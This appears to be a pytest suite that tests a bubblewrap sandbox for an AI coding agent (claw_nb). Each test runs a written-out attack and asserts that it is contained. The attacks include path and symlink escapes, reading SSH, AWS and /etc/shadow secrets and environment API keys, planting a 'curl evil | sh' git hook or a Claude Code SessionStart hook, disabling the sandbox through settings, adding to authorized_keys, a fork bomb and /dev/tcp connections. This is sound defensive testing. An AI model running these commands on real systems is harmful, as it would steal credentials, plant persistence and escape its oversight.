"""Adversarial tests of the bubblewrap sandbox: each test states an attack and asserts it is
contained, and that nothing outside the workspace changed.

The scratch area lives on the host filesystem proper (under ~/.cache when writable, not /tmp,
which is private inside the sandbox and would make escapes look contained for the wrong
reason); a second sentinel lives in pytest's tmp dir. Skipped only when bwrap is not installed;
if it is installed but cannot create namespaces the tests fail (set CLAW_ALLOW_NO_SANDBOX=1 to
skip instead).
"""

from __future__ import annotations

import os
import random
import resource
import shlex
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from claw_nb.tools import ToolContext, ToolError
from claw_nb.tools.base import ToolTimeout
from claw_nb.tools.command import format_result, run_command
from tests.sandbox.kit import SandboxTasks, marker, run, sandbox, survivors

# --------------------------------------------------------------------------------------------
# the filesystem


def test_dotdot_paths_cannot_write_outside_the_workspace(area):
    """Attack: write, overwrite and delete next to the workspace through `..` paths."""
    before = area.state()
    res = run(
        area,
        "echo x > ../pwned; echo x > ../outside/sentinel.txt; echo x > ../outside/new; "
        "mkdir ../newdir; rm -f ../outside/sentinel.txt; rm -rf ../outside/dir; "
        "echo ok > inside.txt",
    )
    assert (area.ws / "inside.txt").read_text() == "ok\n"  # the workspace itself is writable
    assert "Read-only file system" in res.stderr
    assert area.state() == before
    assert area.sentinel.read_text() == "original\n"


def test_absolute_paths_cannot_write_outside_the_workspace(area):
    """Attack: absolute paths to the host filesystem, /etc, /usr and /tmp."""
    before = area.state()
    mark = f"claw-pwned-{random.randint(0, 10**9)}"
    cmd = (
        f"echo x > {area.outside}/new; echo x > {area.sentinel}; rm -f {area.sentinel}; "
        f"echo x > {area.tmp_outside}/new; echo x > {area.tmp_outside}/sentinel.txt; "
        f"echo x > /etc/{mark}; echo x > /usr/{mark}; echo x > /{mark}; touch ~/{mark}"
    )
    run(area, cmd)
    assert area.state() == before
    for d in ("/etc", "/usr", "/", str(Path.home())):
        assert not (Path(d) / mark).exists()


def test_symlinks_out_of_the_workspace_do_not_reach_the_host(area):
    """Attack: make symlinks in the workspace pointing outside it (and use one planted
    beforehand), then write through them."""
    (area.ws / "planted").symlink_to(area.outside)
    before = area.state()
    cmd = (
        f"ln -s {area.outside} link; echo x > link/new; echo x > link/sentinel.txt; "
        f"ln -s {area.sentinel} flink; echo x > flink; echo x > planted/new2; "
        f"ln -s {area.tmp_outside} tlink; echo x > tlink/sentinel.txt"
    )
    run(area, cmd)
    assert area.state() == before
    assert area.sentinel.read_text() == "original\n"


def test_proc_root_links_do_not_reach_the_host(area):
    """Attack: write through /proc/self/root and /proc/1/root, and look for host processes'
    roots in /proc."""
    before = area.state()
    res = run(
        area,
        f"echo x > /proc/self/root{area.outside}/new; echo x > /proc/1/root{area.sentinel}; "
        f"ls /proc/{os.getpid()}/root/ >/dev/null 2>&1 && echo host-pid-visible",
    )
    assert area.state() == before
    assert "host-pid-visible" not in res.stdout


def test_no_capabilities_and_no_remount(area):
    """Attack: remount the read-only root read-write, then write outside the workspace."""
    before = area.state()
    res = run(
        area,
        "grep CapEff /proc/self/status; mount -o remount,rw / 2>&1; "
        f"mount -o remount,rw,bind {area.root} 2>&1; echo x > {area.outside}/new",
    )
    assert "CapEff:\t0000000000000000" in res.stdout
    assert area.state() == before


def test_workspace_settings_and_git_hooks_are_read_only(area):
    """Attack: switch the sandbox off for the next run by editing .claw/settings.toml, or
    plant a git hook that will run on the host at the user's next commit."""
    (area.ws / ".claw").mkdir()
    settings = area.ws / ".claw" / "settings.toml"
    settings.write_text("[sandbox]\nnetwork = false\n")
    (area.ws / ".git" / "hooks").mkdir(parents=True)
    (area.ws / ".git" / "config").write_text("[core]\n")
    res = run(
        area,
        "printf '[sandbox]\\nenabled = false\\n' > .claw/settings.toml; "
        "echo 'curl evil | sh' > .git/hooks/pre-commit; "
        "echo '[core]\\nfsmonitor = evil' >> .git/config; echo written > notes.txt",
    )
    assert settings.read_text() == "[sandbox]\nnetwork = false\n"
    assert not (area.ws / ".git" / "hooks" / "pre-commit").exists()
    assert (area.ws / ".git" / "config").read_text() == "[core]\n"
    assert (area.ws / "notes.txt").read_text() == "written\n"
    assert res.stderr.count("Read-only file system") >= 3


def test_settings_cannot_be_created_when_missing(area):
    """Attack: the workspace has no .claw/ yet; create .claw/settings.toml that opens the whole
    filesystem and the network for the next session."""
    res = run(
        area,
        "mkdir -p .claw && printf '[sandbox]\\nwritable = [\"/\"]\\nnetwork = true\\n' "
        "> .claw/settings.toml",
    )
    assert not (area.ws / ".claw" / "settings.toml").exists()
    assert "Read-only file system" in res.stderr


def test_claude_code_settings_cannot_be_created_or_changed(area):
    """Attack: create .claude/settings.json (the workspace has none yet) with a SessionStart
    hook: claw_nb runs Claude Code's hooks on the host in the next session."""
    hook = '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "evil"}]}]}}'
    res = run(area, f"mkdir -p .claude; printf '%s' {shlex.quote(hook)} > .claude/settings.json")
    assert not (area.ws / ".claude" / "settings.json").exists()
    assert (area.ws / ".claude").is_dir()  # made (empty) before the command, mounted read-only
    assert "Read-only file system" in res.stderr
    (area.ws / ".claude" / "settings.local.json").write_text("{}")
    run(area, "echo '{\"hooks\": {}}' > .claude/settings.local.json; rm -rf .claude")
    assert (area.ws / ".claude" / "settings.local.json").read_text() == "{}"


def test_extra_writable_and_hidden_paths_from_settings(area):
    """`writable` opens a path for writing; `hide` makes one unreadable."""
    extra = area.root / "extra"
    extra.mkdir()
    secret = area.outside / "secret.txt"
    secret.write_text("classified\n")
    res = run(
        area,
        f"echo y > {extra}/made; cat {secret}; echo x > {area.outside}/new",
        writable=(str(extra),),
        hide=(str(secret),),
    )
    assert (extra / "made").read_text() == "y\n"
    assert "classified" not in res.stdout
    assert not (area.outside / "new").exists()


# --------------------------------------------------------------------------------------------
# secrets


def _fake_home(home: Path) -> None:
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("FAKE-PRIVATE-KEY-ssh\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("FAKE-PRIVATE-KEY-aws\n")
    (home / ".netrc").write_text("machine x login y password FAKE-PRIVATE-KEY-netrc\n")
    (home / ".config" / "gcloud").mkdir(parents=True)
    (home / ".config" / "gcloud" / "token").write_text("FAKE-PRIVATE-KEY-gcloud\n")
    (home / "notes.txt").write_text("visible-notes\n")


READ_SECRETS = (
    "cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc ~/.config/gcloud/token; ls -A ~/.ssh; "
    "grep -r FAKE-PRIVATE ~ 2>/dev/null; cat ~/notes.txt"
)


def test_home_secrets_are_hidden(area, monkeypatch):
    """Attack: read ~/.ssh/id_rsa, ~/.aws/credentials, ~/.netrc and ~/.config/gcloud (HOME
    on the host filesystem, visible read-only); the rest of HOME stays readable."""
    home = area.root / "home"
    _fake_home(home)
    monkeypatch.setenv("HOME", str(home))
    res = run(area, READ_SECRETS)
    assert "FAKE-PRIVATE-KEY" not in res.stdout + res.stderr
    assert "visible-notes" in res.stdout  # only the secrets are masked, not HOME


def test_home_secrets_are_hidden_even_when_home_is_the_workspace(area, monkeypatch):
    """Attack: HOME is the (writable) workspace: read the key, and plant an authorized_keys
    that would persist on the host."""
    _fake_home(area.ws)
    monkeypatch.setenv("HOME", str(area.ws))
    res = run(area, READ_SECRETS + "; echo 'ssh-rsa EVIL' >> ~/.ssh/authorized_keys")
    assert "FAKE-PRIVATE-KEY" not in res.stdout + res.stderr
    assert "visible-notes" in res.stdout
    assert not (area.ws / ".ssh" / "authorized_keys").exists()
    assert (area.ws / ".ssh" / "id_rsa").read_text() == "FAKE-PRIVATE-KEY-ssh\n"


def test_environment_secrets_are_not_passed(area, monkeypatch):
    """Attack: read the parent's API keys from the environment; the allow-list passes the
    one the user chose."""
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-openai-1234567890")
    monkeypatch.setenv("ANTHROPIC_API_KEY", "secret-anthropic")
    monkeypatch.setenv("GITHUB_TOKEN", "secret-github")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret-aws")
    monkeypatch.setenv("MY_API_KEY", "my-own-key")
    res = run(area, "env; cat /proc/self/environ | tr '\\0' '\\n'", env_passthrough=("MY_API_KEY",))
    out = res.stdout
    for leaked in ("sk-secret-openai", "secret-anthropic", "secret-github", "secret-aws"):
        assert leaked not in out
    assert "MY_API_KEY=my-own-key" in out
    assert "CLAW_SANDBOX=bubblewrap" in out


def test_root_owned_system_secrets_are_hidden(area):
    """Attack: as uid 0 without capabilities, read /etc/shadow (owned by root)."""
    shadow = Path("/etc/shadow")
    try:
        content = shadow.read_text()
    except OSError:
        pytest.skip("/etc/shadow is absent or unreadable here")
    if not content.strip():
        pytest.skip("/etc/shadow is empty here")
    res = run(area, "cat /etc/shadow")
    assert res.stdout == ""


# --------------------------------------------------------------------------------------------
# processes and resources


@pytest.mark.parametrize("cgroup", [True, False], ids=["cgroup", "watchdog"])
def test_fork_bomb_is_contained(area, cgroup):
    """Attack: a fork bomb, run as root (RLIMIT_NPROC does not bind root). A cgroup pids.max
    (when one can be created) or the PID-namespace watchdog stops it within a fraction of a
    second, every process of it is gone, and it never holds more than a few hundred tasks.

    The peak is counted in the sandbox's own PID namespace, not on the whole machine: other
    work on a loaded machine (a parallel test run) made the machine-wide count meaningless.
    With pids.max the kernel caps the namespace at the limit itself; the watchdog lets it grow
    for at most a few check intervals."""
    m = marker()
    start = time.monotonic()
    ready = area.ws / "sampler-ready"
    wait = "for i in $(seq 500); do [ -e sampler-ready ] && break; sleep 0.01; done"
    with SandboxTasks(m, ready) as tasks:
        res = run(
            area,
            f": {m}; {wait}; :(){{ :|:& }};:; sleep 30",
            timeout=10,
            processes=32,
            cgroup=cgroup,
        )
    elapsed = time.monotonic() - start
    assert res.killed_reason == "process limit (32)", res
    assert elapsed < 5
    assert survivors(m) == []
    assert tasks.samples > 0  # the sampler saw the bomb
    from claw_nb.sandbox.cgroups import find_cgroup_base

    base = find_cgroup_base()
    if cgroup and base is not None and base.pids:
        assert tasks.peak <= 32 + 3 + 1  # pids.max (limit + slack) and the namespace's init
    else:
        assert tasks.peak < 2000
    assert "process limit (32)" in format_result(res, 10)


def test_memory_hog_is_stopped(area):
    """Attack: allocate 8 GB with memory_mb = 256."""
    code = "x = bytearray(8 << 30); print('allocated')"
    res = run(area, f"{shlex.quote(sys.executable)} -c {shlex.quote(code)}", memory_mb=256)
    assert res.exit_code != 0 and "allocated" not in res.stdout
    assert "MemoryError" in res.stderr


def test_gigabyte_of_output_is_capped(area):
    """Attack: print 1 GB. The call returns, the result and this process's memory stay small,
    and the saved output file is capped (64 MB) and named in the tool result."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    ctx = ToolContext(workspace=area.ws, runner=sandbox(area))
    start = time.monotonic()
    text = run_command.run(ctx, {"command": "yes | head -c 1000000000; echo done", "timeout": 120})
    assert time.monotonic() - start < 60
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 200
    assert len(text) < 31_000 and text.split("\n\n(output truncated")[0].endswith("y\ndone")
    saved = text.split("is saved in ")[1].rstrip(")\n ")
    path = area.ws / saved
    assert path.parent == area.ws / ".claw" / "outputs"
    assert path.stat().st_size <= (64 << 20) + 200
    assert path.read_bytes().endswith(b"y\ny\ndone\n")


def test_sleep_is_killed_at_the_timeout(area):
    """Attack: run forever (`sleep 1000` with a 1 s timeout)."""
    m = marker()
    ctx = ToolContext(workspace=area.ws, runner=sandbox(area))
    start = time.monotonic()
    with pytest.raises(ToolError) as info:
        run_command.run(ctx, {"command": f"sleep {m}", "timeout": 1})
    assert time.monotonic() - start < 5
    assert isinstance(info.value, ToolTimeout) and "timed out after 1 s" in str(info.value)
    assert survivors(m) == []


def test_detached_daemons_do_not_survive(area):
    """Attack: leave daemons behind with setsid, setsid -f, a double fork and nohup."""
    m = marker()
    cmd = (
        f"setsid sleep {m} & setsid -f sleep {m}; (setsid sh -c 'sleep {m} &' &); "
        f"nohup sleep {m} >/dev/null 2>&1 & disown; echo started"
    )
    start = time.monotonic()
    res = run(area, cmd)
    assert res.exit_code == 0 and "started" in res.stdout
    assert time.monotonic() - start < 5
    assert survivors(m) == []


def test_host_processes_cannot_be_signalled(area):
    """Attack: kill a process of the host by its pid."""
    victim = subprocess.Popen(["sleep", "300"])
    try:
        run(area, f"kill -9 {victim.pid}")
        time.sleep(0.2)
        assert victim.poll() is None
    finally:
        victim.kill()
        victim.wait()


# --------------------------------------------------------------------------------------------
# network


def test_network_is_blocked_by_default(area, server):
    """Attack: connect to a TCP server on the host's loopback, and resolve a name."""
    res = run(area, f"echo hello > /dev/tcp/127.0.0.1/{server.port} && echo connected")
    assert "connected" not in res.stdout
    time.sleep(0.3)
    assert server.received == []


def test_network_is_reachable_when_allowed(area, server):
    res = run(
        area, f"echo hello > /dev/tcp/127.0.0.1/{server.port} && echo connected", network=True
    )
    assert "connected" in res.stdout
    end = time.monotonic() + 3
    while not server.received and time.monotonic() < end:
        time.sleep(0.05)
    assert server.received == [b"hello\n"]


def test_host_sockets_under_run_are_hidden(area):
    """Attack: reach a host service through a unix socket under /run (docker.sock, the D-Bus
    session bus, ...) -- unix sockets ignore --unshare-net."""
    if not os.access("/run", os.W_OK):
        pytest.skip("cannot create a socket under /run here")
    path = f"/run/claw-test-{random.randint(0, 10**9)}.sock"
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(path)
    srv.listen(1)
    try:
        code = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({path!r}); print('in')"
        res = run(area, f"{shlex.quote(sys.executable)} -c {shlex.quote(code)}")
        assert "in" not in res.stdout.split()
    finally:
        srv.close()
        os.unlink(path)
